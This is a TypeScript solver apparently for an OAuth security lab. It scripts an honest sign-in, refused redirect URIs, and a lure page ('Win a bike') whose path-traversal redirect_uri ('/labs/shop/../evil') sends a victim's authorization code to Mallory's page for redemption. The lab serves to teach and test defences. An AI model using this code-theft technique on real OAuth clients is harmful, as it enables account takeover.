import { codeIn } from '../../bike-shop.ts';
import type { Participant } from '../../solver.ts';
import { codeOfVictim, labSolver, readBy } from '../attack-and-defend.ts';
import { logInAtShop, redeemAtShop, shopRequest } from '../lab-shop.ts';

/** A sign-in at the registered address, and a visit to the page of Mallory that brings no code of it. */
async function honest(by: Participant): Promise<void> {
  const redirect_uri = `${by.issuer}/labs/shop`;
  const { url } = await logInAtShop(by, 'alice', { redirect_uri });
  await by.open('/labs/evil?code=made-up');
  await redeemAtShop(by, codeIn({ url }), { redirect_uri });
}

/** Two addresses that do not begin like the registered one. */
async function refused(by: Participant): Promise<void> {
  for (const path of ['/labs/evil', '/labs/shopping']) {
    await by.open(`/oauth2/authorize?${shopRequest({ redirect_uri: `${new URL(by.issuer).origin}${path}` })}`);
  }
}

/** The page of Mallory, with a link that has this redirect_uri, and the code that came to it. */
async function lure(by: Participant, redirect_uri: string): Promise<void> {
  const href = `${by.issuer}/oauth2/authorize?${shopRequest({ redirect_uri })}`;
  await by.attack('victim', `<p>Win a bike</p><a href="${href}">Go</a>`);
  await readBy(by, await codeOfVictim(by), { redirect_uri });
}

export const solver = labSolver({
  first: 'link',
  honest,
  refused,
  goal: {
    solve: by => lure(by, `${by.issuer}/labs/shop/../evil`),
    nearMisses: { "a sign-in of one's own as Alice": { does: honest } },
  },
});
